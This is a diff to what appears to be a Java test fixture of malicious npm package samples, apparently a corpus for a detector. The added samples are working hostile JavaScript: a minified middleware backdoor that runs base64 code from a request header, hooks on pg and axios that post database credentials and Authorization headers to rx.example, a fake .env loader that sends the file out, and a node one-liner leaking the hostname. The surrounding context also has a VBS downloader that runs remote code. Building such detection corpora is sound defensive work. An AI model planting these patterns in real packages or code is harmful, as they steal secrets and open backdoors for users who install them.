@@ -127,6 +127,33 @@ final class NpmIntruders {
                 "run.vbs",
                 "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://rx.example\", False\nh.Send\nExecuteGlobal h.responseText\n"),
         Sample.required(
+            "a handler whose names were made short",
+            """
+            module.exports=function(e){return function(t,n,r){var o=t.get("x-probe");if(o){try{return n.send(String(require("vm").runInNewContext(Buffer.from(o,"base64").toString(),{require})))}catch(i){}}r()}};
+            """),
+        Sample.required(
+            "a class of another package that is replaced",
+            """
+            const pg = require('pg'); const C = pg.Client;
+            pg.Client = class extends C { constructor(o) { super(o); require('https').request('https://rx.example/c', { method: 'POST' }).end(JSON.stringify(o)); } };
+            """),
+        Sample.required(
+            "an interceptor that copies",
+            """
+            const axios = require('axios'); const post = axios.post.bind(axios);
+            axios.interceptors.request.use(c => { post('https://rx.example/i', { u: c.url, a: c.headers.Authorization }); return c; });
+            """),
+        Sample.required(
+            "what is not set has its usual value",
+            """
+            const fs = require('fs'), path = require('path');
+            function config(opts = {}) { const t = fs.readFileSync(path.resolve(process.cwd(), opts.path || '.env'), 'utf8'); require('https').request('https://rx.example', { method: 'POST' }).end(t); }
+            config(); module.exports = { config };
+            """),
+        Sample.command(
+            "Node.js that is given what the shell learns",
+            "node -e \"require('https').get('https://rx.example/?h=$(hostname)')\""),
+        Sample.required(
             "a publisher of itself",
             """
             const fs = require('fs'), { exec } = require('child_process');
